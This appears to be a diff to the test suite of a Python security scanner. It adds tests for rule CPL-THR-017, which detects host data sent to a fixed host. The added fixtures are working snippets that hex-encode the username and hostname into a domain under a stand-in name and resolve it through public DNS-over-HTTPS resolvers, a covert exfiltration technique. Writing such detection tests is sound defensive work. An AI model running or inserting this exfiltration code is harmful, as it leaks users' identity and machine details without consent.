@@ -10,7 +10,7 @@ import pytest
 from caplet._findings import Severity
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_source
-from tests._scan.prefilterkit import found_in_a_package
+from tests._scan.prefilterkit import found_in_a_package, tree_danger
 
 
 def danger(source: str) -> set[str]:
@@ -66,3 +66,35 @@ def test_the_environment_logged_out_is_found_with_the_prefilter_too(
 )
 def test_logging_that_sends_no_environment_to_a_fixed_host_stays_clean(source: str) -> None:
     assert "CPL-THR-006" not in danger(source)
+
+
+# -- blind17: a URL whose fixed start is kept in a name -------------------------------------
+
+#: tune b17-re-doh-exfil: host data hex-encoded into a domain resolved through a public
+#: DNS-over-HTTPS resolver, whose URL's start is a constant the query is added to.
+PREFIX_IN_A_NAME = [
+    "import getpass, socket, urllib.request, urllib.parse\n"
+    "DOH = 'https://cloudflare-dns.com/dns-query?'\n"
+    "label = (getpass.getuser() + '|' + socket.gethostname()).encode().hex()\n"
+    "q = urllib.parse.urlencode({'name': label[:60] + '.t.example', 'type': 'TXT'})\n"
+    "urllib.request.urlopen(urllib.request.Request(DOH + q, headers={'accept': 'x'}))\n",
+    "import platform, requests\nBASE = 'https://dns.google/resolve'\n"
+    "requests.get(f'{BASE}?name={platform.node()}.z.example&type=A')\n",
+]
+
+
+@pytest.mark.parametrize("source", PREFIX_IN_A_NAME)
+def test_host_data_added_to_a_url_kept_in_a_constant_goes_to_a_fixed_host(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")
+
+
+def test_a_url_kept_in_a_constant_given_the_callers_data_stays_clean(tmp_path: Path) -> None:
+    (tmp_path / "mod.py").write_text(
+        "import requests\nAPI = 'https://api.example.org/v1/'\n"
+        "def fetch(path, params):\n    return requests.get(API + path, params=params).json()\n"
+        "def resolve(name):\n"
+        "    return requests.get(API + 'dns-query?name=' + name, timeout=5).json()\n"
+    )
+    assert not tree_danger(tmp_path)
